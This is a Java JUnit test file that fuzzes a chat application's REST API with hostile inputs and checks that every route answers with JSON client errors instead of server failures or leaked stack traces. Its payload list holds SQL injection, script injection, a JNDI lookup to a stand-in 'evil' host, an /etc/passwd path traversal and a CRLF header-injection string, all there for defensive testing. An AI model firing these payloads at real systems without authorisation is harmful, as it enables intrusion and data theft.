package com.rosettachat.shared;

import static org.assertj.core.api.Assertions.assertThat;

import com.rosettachat.support.ApiTest;
import com.rosettachat.support.Http;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Throws oversized, malformed, wrongly typed and injection-shaped requests at every route and
 * asserts the server answers each with a JSON client error (or a success), never a 5xx.
 */
class HostileInputTest extends ApiTest {

    private static final String[] NASTY_STRINGS = {
            "' OR '1'='1'; DROP TABLE users; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}",
            "\u0000\u0001\u0002", "🙂🙃".repeat(300), "../../../../etc/passwd", "%00%0d%0aSet-Cookie: x=y",
            "a".repeat(70_000), "１２３", "-1", "1e309", "NaN"
    };

    /** Every route of this slice: method, path with ids filled in, and whether the admin calls it. */
    private record Route(String method, String path, boolean admin) {
    }

    private List<Route> routes(long someUserId) {
        return List.of(
                new Route("POST", "/api/v1/auth/app/register", false),
                new Route("POST", "/api/v1/auth/app/login", false),
                new Route("POST", "/api/v1/auth/app/change-password", false),
                new Route("GET", "/api/v1/me", false),
                new Route("PATCH", "/api/v1/me", false),
                new Route("POST", "/api/v1/me/tokens", false),
                new Route("GET", "/api/v1/me/tokens", false),
                new Route("DELETE", "/api/v1/me/tokens/1", false),
                new Route("GET", "/api/v1/admin/users", true),
                new Route("PATCH", "/api/v1/admin/users/" + someUserId, true),
                new Route("POST", "/api/v1/auth/app/logout", false));
    }

    private List<String> bodies() {
        List<String> bodies = new ArrayList<>(List.of(
                "{", "}", "[]", "\"text\"", "123", "null", "true", "{\"a\":}", "{'single':'quotes'}",
                "[".repeat(5_000) + "]".repeat(5_000),
                "{\"name\":" + "[".repeat(3_000) + "]".repeat(3_000) + "}",
                "{\"email\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}",
                "\uFEFF{\"email\":\"bom@x.y\"}"));
        Map<String, Object> wrongTypes = new LinkedHashMap<>();
        for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
                "preferred_language", "device_name", "avatar_url", "abilities", "expires_in_days", "is_active", "plan",
                "q", "page", "per_page"}) {
            wrongTypes.put(field, Map.of("nested", List.of(1, 2, Map.of())));
        }
        bodies.add(Http.JSON.writeValueAsString(wrongTypes));
        bodies.add("{\"expires_in_days\": 1e309, \"page\": 99999999999999999999999, \"per_page\": -0.5, \"is_active\": 2}");
        for (String nasty : NASTY_STRINGS) {
            Map<String, Object> body = new LinkedHashMap<>();
            for (String field : new String[] {"name", "email", "password", "password_confirmation", "current_password",
                    "preferred_language", "device_name", "avatar_url", "plan", "q"}) {
                body.put(field, nasty);
            }
            body.put("abilities", List.of(nasty));
            body.put("expires_in_days", nasty);
            body.put("is_active", nasty);
            bodies.add(Http.JSON.writeValueAsString(body));
        }
        return bodies;
    }

    @Test
    void noRouteAnswersHostileBodiesWithA5xx() {
        Account admin = admin();
        Account target = register();
        for (Route route : routes(target.id())) {
            String token = route.admin() ? admin.token() : register().token();
            for (String body : bodies()) {
                Http.Response r = http.method(route.method(), route.path()).token(token).json(body).send();
                assertThat(r.status()).as(route + " with " + abbreviate(body) + " -> " + abbreviate(r.body()))
                        .isLessThan(500);
                if (r.status() >= 400) {
                    assertThat(r.header("Content-Type")).as(route.toString()).startsWith("application/json");
                    assertThat(r.body()).doesNotContainIgnoringCase("exception").doesNotContain("at com.");
                }
            }
        }
    }

    @Test
    void noRouteAnswersHostileQueryStringsOrPathsWithA5xx() {
        Account admin = admin();
        for (String nasty : NASTY_STRINGS) {
            String q = java.net.URLEncoder.encode(nasty.length() > 2000 ? nasty.substring(0, 2000) : nasty,
                    java.nio.charset.StandardCharsets.UTF_8);
            for (String path : List.of("/api/v1/admin/users?q=" + q + "&page=" + q + "&per_page=" + q,
                    "/api/v1/me/tokens/" + q, "/api/v1/admin/users/" + q, "/api/v1/me?x=" + q)) {
                for (String method : List.of("GET", "PATCH", "DELETE")) {
                    Http.Response r = http.method(method, path).token(admin.token()).send();
                    assertThat(r.status()).as(method + " " + path + " -> " + abbreviate(r.body())).isLessThan(500);
                }
            }
        }
    }

    @Test
    void hostileBearerTokensAreUnauthenticated() {
        for (String nasty : new String[] {"1|" + "a".repeat(10_000), "1' OR '1'='1|x", "|||", "9223372036854775807|x",
                "0|x", "1|\u00e9", " ", "Bearer Bearer"}) {
            Http.Response r = http.get("/api/v1/me").token(nasty).send();
            assertThat(r.status()).as(nasty).isIn(400, 401);
        }
    }

    private static String abbreviate(String s) {
        return s == null || s.length() < 200 ? s : s.substring(0, 200) + "...";
    }
}
